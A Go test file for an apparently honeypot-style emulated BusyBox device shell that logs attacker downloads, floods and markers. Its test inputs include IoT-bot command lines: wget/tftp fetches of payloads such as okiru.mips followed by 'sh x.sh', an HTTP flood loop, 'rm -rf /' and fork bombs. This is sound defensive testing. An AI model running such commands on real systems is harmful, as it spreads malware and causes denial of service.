package busybox

import (
	"context"
	"strings"
	"testing"
	"time"
)

func newTestDevice(t *testing.T, p Profile, lim Limits) *Device {
	t.Helper()
	d, err := NewDevice(p, lim)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// TestShellAPI drives the exported API as a protocol package does.
func TestShellAPI(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{MaxCommands: 3})
	sh := d.NewShell(context.Background())
	defer sh.Close()
	if p := sh.Prompt(); p != "~ # " {
		t.Fatalf("prompt %q", p)
	}
	r := sh.Run("cd /tmp; wget http://192.0.2.1/bins/x.arm; echo done")
	if !strings.HasSuffix(string(r.Output), "done\n") || r.Exited || r.Limited || r.Continue {
		t.Fatalf("result %+v", r)
	}
	want := Download{URL: "http://192.0.2.1/bins/x.arm", Tool: "wget", Filename: "/tmp/x.arm", Ran: true}
	if len(r.Downloads) != 1 || r.Downloads[0] != want {
		t.Fatalf("downloads %+v", r.Downloads)
	}
	if p := sh.Prompt(); p != "/tmp # " {
		t.Fatalf("prompt after cd %q", p)
	}
	if r := sh.Run("true"); r.Limited {
		t.Fatal("limited after 2 lines of 3")
	}
	if r := sh.Run("true"); !r.Limited {
		t.Fatal("not limited after 3 lines of 3")
	}
	sh2 := d.NewShell(context.Background())
	defer sh2.Close()
	if r := sh2.Run("exit"); !r.Exited || len(r.Output) != 0 {
		t.Fatalf("exit: %+v", r)
	}
}

func TestNewDeviceValidates(t *testing.T) {
	p := DefaultProfile()
	p.Arch, p.MAC, p.Address, p.MemoryKB = "riscv", "zz", "300.1.1.1/24", 1
	_, err := NewDevice(p, Limits{})
	for _, field := range []string{"arch", "mac", "address", "memory_kb"} {
		if err == nil || !strings.Contains(err.Error(), field+":") {
			t.Fatalf("NewDevice = %v, want it to name %s", err, field)
		}
	}
	if _, err := NewDevice(DefaultProfile(), Limits{MaxCommands: -1}); err == nil || !strings.Contains(err.Error(), "max_commands") {
		t.Fatalf("negative max_commands: %v", err)
	}
}

// TestFactsPerDeployment: two seeds give two devices that answer
// ifconfig, free and df differently; one seed always answers the same; a
// fact set in the profile is what the device shows.
func TestFactsPerDeployment(t *testing.T) {
	answer := func(p Profile) string {
		sh := newTestDevice(t, p, Limits{}).NewShell(context.Background())
		defer sh.Close()
		return string(sh.Run("ifconfig eth0; free; df; cat /proc/net/arp /proc/meminfo").Output)
	}
	a, b := DefaultProfile(), DefaultProfile()
	a.Seed, b.Seed = "sensor-a", "sensor-b"
	if answer(a) == answer(b) {
		t.Fatal("two seeds, one device")
	}
	if first, again := answer(a), answer(a); first != again {
		t.Fatal("one seed, two answers")
	}
	a.MAC, a.Address, a.Gateway, a.MemoryKB = "00:12:12:aa:bb:cc", "10.1.2.3/16", "10.1.0.254", 123456
	out := answer(a)
	for _, want := range []string{"HWaddr 00:12:12:AA:BB:CC", "inet addr:10.1.2.3  Bcast:10.1.255.255  Mask:255.255.0.0", "10.1.0.254", "123456"} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %q in\n%s", want, out)
		}
	}
}

// TestShellAPIStates covers the states a transport must follow: an
// unfinished line (Continue, "> "), a password prompt (Secret, no prompt
// of its own), flood targets apart from downloads, URLs of commands that
// did not run, markers.
func TestShellAPIStates(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{})
	sh := d.NewShell(context.Background())
	defer sh.Close()

	if r := sh.Run(`echo "a`); !r.Continue || len(r.Output) != 0 || sh.Prompt() != "> " {
		t.Fatalf("open quote: %+v prompt %q", r, sh.Prompt())
	}
	if !sh.Waiting() {
		t.Fatal("not waiting inside a quote")
	}
	if r := sh.Run(""); !r.Continue { // a blank line inside the quote
		t.Fatalf("blank line: %+v", r)
	}
	if r := sh.Run(`b"`); r.Continue || string(r.Output) != "a\n\nb\n" || sh.Prompt() != "~ # " || sh.Waiting() {
		t.Fatalf("closed quote: %+v prompt %q", r, sh.Prompt())
	}

	if r := sh.Run("passwd"); string(r.Output) != "Changing password for root\nNew password: " || sh.Prompt() != "" {
		t.Fatalf("passwd: %q prompt %q", r.Output, sh.Prompt())
	}
	if r := sh.Run("pw1"); !r.Secret || string(r.Output) != "\nRetype password: " {
		t.Fatalf("first answer: %+v", r)
	}
	if r := sh.Run("pw1"); !r.Secret || !strings.Contains(string(r.Output), "password for root is unchanged") || sh.Prompt() != "~ # " {
		t.Fatalf("second answer: %+v", r)
	}

	r := sh.Run(`cd /tmp; sh -c "while true; do wget -q -O /dev/null http://198.51.100.1/; done" & wget http://192.0.2.1/a || tftp -r b -g 192.0.2.2; /bin/busybox ECCHI`)
	if len(r.Floods) != 1 || r.Floods[0].URL != "http://198.51.100.1/" || r.Floods[0].Requests < 2 || !r.Floods[0].Ran {
		t.Errorf("floods %+v", r.Floods)
	}
	want := []Download{
		{URL: "http://192.0.2.1/a", Tool: "wget", Filename: "/tmp/a", Ran: true},
		{URL: "tftp://192.0.2.2/b", Tool: "tftp", Filename: "/tmp/b", Ran: false},
	}
	if len(r.Downloads) != len(want) || r.Downloads[0] != want[0] || r.Downloads[1] != want[1] {
		t.Errorf("downloads %+v, want %+v", r.Downloads, want)
	}
	if len(r.Markers) != 1 || r.Markers[0] != "ECCHI" {
		t.Errorf("markers %q", r.Markers)
	}
	// Up arrow recalls the last line.
	if l, ok := EditLine("\x1b[A", sh.LastLine()); !ok || l != sh.LastLine() {
		t.Errorf("up arrow: %q", l)
	}
	if l, ok := EditLine("ls -x\x7fa", ""); !ok || l != "ls -a" {
		t.Errorf("backspace: %q", l)
	}
	if l, _ := EditLine("rm -rf /\x03", ""); l != "" {
		t.Errorf("^C kept %q", l)
	}
	if l, _ := EditLine("rm -rf /\x03ls", ""); l != "ls" {
		t.Errorf("^C then ls: %q", l)
	}
}

// TestRunScript: a transport without a prompt (a web form) runs text as
// sh -c does: an unfinished line is a syntax error, a here-document ends
// with the text.
func TestRunScript(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{})
	sh := d.NewShell(context.Background())
	defer sh.Close()
	if r := sh.RunScript(`echo "open`); r.Continue || string(r.Output) != "sh: syntax error: unterminated quoted string\n" {
		t.Errorf("open quote: %+v", r)
	}
	if r := sh.RunScript("cat <<EOF\nbody"); string(r.Output) != "body\n" {
		t.Errorf("here-document to the end: %q", r.Output)
	}
	// A syntax error runs nothing; the URL is still intel, not run.
	r := sh.RunScript(";cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
	if len(r.Downloads) != 1 || r.Downloads[0].Ran || !strings.HasPrefix(string(r.Output), "sh: syntax error") {
		t.Errorf("leading ; : %+v", r)
	}
	r = sh.RunScript("cd /tmp; wget http://192.0.2.5/x.sh; sh x.sh")
	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.5/x.sh" || sh.Waiting() {
		t.Errorf("injection: %+v", r)
	}
}

// A URL written with an expansion is recorded once, expanded.
func TestURLWithExpansion(t *testing.T) {
	sh := newTestDevice(t, DefaultProfile(), Limits{}).NewShell(context.Background())
	defer sh.Close()
	r := sh.Run("cd /tmp; wget http://192.0.2.7/bins/x.$(uname -m)")
	if len(r.Downloads) != 1 || r.Downloads[0].URL != "http://192.0.2.7/bins/x.armv5tejl" {
		t.Fatalf("downloads %+v", r.Downloads)
	}
}

// TestHostileLinesBounded: lines built to cost the most with the new
// features (recursion, nested scripts, pattern expansions, here-documents
// in loops, floods) each finish quickly with bounded output.
func TestHostileLinesBounded(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), Limits{})
	long := strings.Repeat("a", 4000)
	for _, l := range []string{
		"f() { f; }; f",
		"f() { f & f; }; f",
		"g() { sh -c 'g'; g; }; g",
		`sh -c "sh -c \"sh -c 'sh -c \\\"while :; do :; done\\\"'\""`,
		"x=" + long + "; y=${x//a/bb}; z=${x%%*a}; echo ${#y}",
		"x=" + long + "; while :; do y=${x#*a*a*a*a*a*a*a}; done",
		"while :; do cat <<EOF\n$(echo $(echo x))\nEOF\ndone",
		"while :; do wget -O /dev/null http://198.51.100.1/$((i=i+1)); done",
		"echo $((" + strings.Repeat("(", 100) + "1" + strings.Repeat(")", 100) + "))",
		"yes | awk '{s=s $0} END {print length(s)}'",
		"yes | sed 's/y/yyyyyyyy/g' | sed 's/y/yyyyyyyy/g' | wc -c",
		"yes | awk -F'[:,]+' '{print $1}' | wc -l",
		"yes | sort | uniq -c | xargs echo; yes | xargs sh -c 'yes | xargs sh -c \"yes | xargs echo\"'",
		"yes | awk '{for(;;) {while (1) x++; a[x]=x}}'",
		"yes | awk '{a[NR]=$0 $0 $0} END {for (k in a) for (j in a) n++; print n}'",
		"find / -name '*a*b*c*d*e*' | wc -l; tar cf - / | wc -c",
		"hexdump -C /dev/zero | od -c | base64 | gzip | gunzip | wc -c",
		"case " + long + " in *a*a*a*a*a*a*a*b) echo x;; esac",
	} {
		sh := d.NewShell(context.Background())
		start := time.Now()
		var r Result
		for _, part := range strings.Split(l, "\n") {
			r = sh.Run(part)
		}
		if took := time.Since(start); took > 3*time.Second*raceFactor() {
			t.Errorf("%.60q took %v", l, took)
		}
		if len(r.Output) > maxOutput || len(r.Downloads)+len(r.Floods) > maxDownloads {
			t.Errorf("%.60q: %d bytes, %d downloads, %d floods", l, len(r.Output), len(r.Downloads), len(r.Floods))
		}
		sh.Close()
	}
}

// Satori's stager gives wget tftp's options: the device refuses them as
// BusyBox's wget does, and the payload they name is recorded whole.
func TestWgetWithTftpOptions(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), DefaultLimits())
	sh := d.NewShell(context.Background())
	defer sh.Close()
	r := sh.Run("/bin/busybox wget -g 198.51.100.9 -l /tmp/okiru -r /okiru.mips")
	if !strings.Contains(string(r.Output), "wget: invalid option -- 'g'") {
		t.Errorf("output %q", r.Output)
	}
	if len(r.Downloads) != 1 || r.Downloads[0].URL != "tftp://198.51.100.9/okiru.mips" {
		t.Errorf("downloads %+v", r.Downloads)
	}
}

// A URL no fetcher took (in an echo, a comment, a quoted string) is kept,
// but never as a download that ran. (A curl the device lacks still counts as
// the bot's download attempt: its payload host is intel.)
func TestURLsOutsideFetchersDidNotRun(t *testing.T) {
	d := newTestDevice(t, DefaultProfile(), DefaultLimits())
	for _, line := range []string{
		"echo wget http://echoonly.example/c",
		"# wget http://comment.example/e",
		`x="wget http://inquote.example/f"`,
	} {
		sh := d.NewShell(context.Background())
		r := sh.Run(line)
		sh.Close()
		if len(r.Downloads) != 1 || r.Downloads[0].Ran {
			t.Errorf("%q: downloads %+v, want one that did not run", line, r.Downloads)
		}
	}
	sh := d.NewShell(context.Background())
	defer sh.Close()
	if r := sh.Run("cd /tmp; wget http://198.51.100.3/bins/x.arm"); len(r.Downloads) != 1 || !r.Downloads[0].Ran {
		t.Errorf("a wget that ran: %+v", r.Downloads)
	}
}
